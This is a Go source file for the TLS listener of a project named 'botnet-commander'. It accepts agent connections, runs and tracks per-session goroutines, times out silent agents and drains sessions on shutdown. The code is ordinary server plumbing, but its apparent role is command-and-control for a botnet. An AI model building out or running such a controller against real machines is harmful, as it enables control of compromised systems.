// Package server owns the agent-facing TLS listener. Each accepted
// connection gets its own session goroutine running the handshake and frame
// loop; the registry and store see the side effects.
package server

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/metrics"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

// Config holds the listener settings.
type Config struct {
	// Addr is the listen address, host:port.
	Addr string
	// OfflineTimeout is how long a session may stay silent before the agent
	// is considered gone and the connection dropped.
	OfflineTimeout time.Duration
	// BufferSize is the per-session read buffer; zero picks the protocol
	// default.
	BufferSize int
	// TLS is the listener's TLS config, built from the commander PKI.
	TLS *tls.Config
}

// Server accepts agent connections and runs their sessions.
type Server struct {
	cfg      Config
	log      *zap.Logger
	registry *registry.Registry
	store    *store.Store
	metrics  *metrics.Metrics

	ln net.Listener
	wg sync.WaitGroup

	mu       sync.Mutex
	sessions map[*session]struct{}
	draining bool
}

// New creates a server. Call Listen before Serve.
func New(cfg Config, reg *registry.Registry, st *store.Store, log *zap.Logger, m *metrics.Metrics) *Server {
	return &Server{
		cfg:      cfg,
		log:      log.Named("server"),
		registry: reg,
		store:    st,
		metrics:  m,
		sessions: make(map[*session]struct{}),
	}
}

// Listen binds the TLS listener. Split from Serve so the caller can report
// bind failures before going into the background.
func (s *Server) Listen() error {
	ln, err := tls.Listen("tcp", s.cfg.Addr, s.cfg.TLS)
	if err != nil {
		return fmt.Errorf("server: listen %s: %w", s.cfg.Addr, err)
	}
	s.ln = ln
	s.log.Info("listening for agents", zap.String("addr", ln.Addr().String()))
	return nil
}

// Addr returns the bound listen address.
func (s *Server) Addr() string {
	if s.ln == nil {
		return s.cfg.Addr
	}
	return s.ln.Addr().String()
}

// Serve accepts connections until ctx is canceled, then closes the listener
// and waits for every session to finish.
func (s *Server) Serve(ctx context.Context) error {
	if s.ln == nil {
		return fmt.Errorf("server: Serve called before Listen")
	}

	go func() {
		<-ctx.Done()
		s.ln.Close()
		s.drain()
	}()

	for {
		conn, err := s.ln.Accept()
		if err != nil {
			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
				break
			}
			s.log.Warn("accept failed", zap.Error(err))
			continue
		}
		sess := newSession(s, conn)
		if !s.track(sess) {
			conn.Close()
			continue
		}
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			defer s.untrack(sess)
			sess.run()
		}()
	}

	s.wg.Wait()
	s.log.Info("all sessions drained")
	return nil
}

// track registers a session for shutdown teardown. Returns false once the
// server has started draining, so late-accepted connections are refused.
func (s *Server) track(sess *session) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.draining {
		return false
	}
	s.sessions[sess] = struct{}{}
	return true
}

func (s *Server) untrack(sess *session) {
	s.mu.Lock()
	delete(s.sessions, sess)
	s.mu.Unlock()
}

// drain closes every live session's connection so their read loops return
// instead of sitting out the offline timeout.
func (s *Server) drain() {
	s.mu.Lock()
	s.draining = true
	live := make([]*session, 0, len(s.sessions))
	for sess := range s.sessions {
		live = append(live, sess)
	}
	s.mu.Unlock()

	for _, sess := range live {
		sess.framer.Close()
	}
}
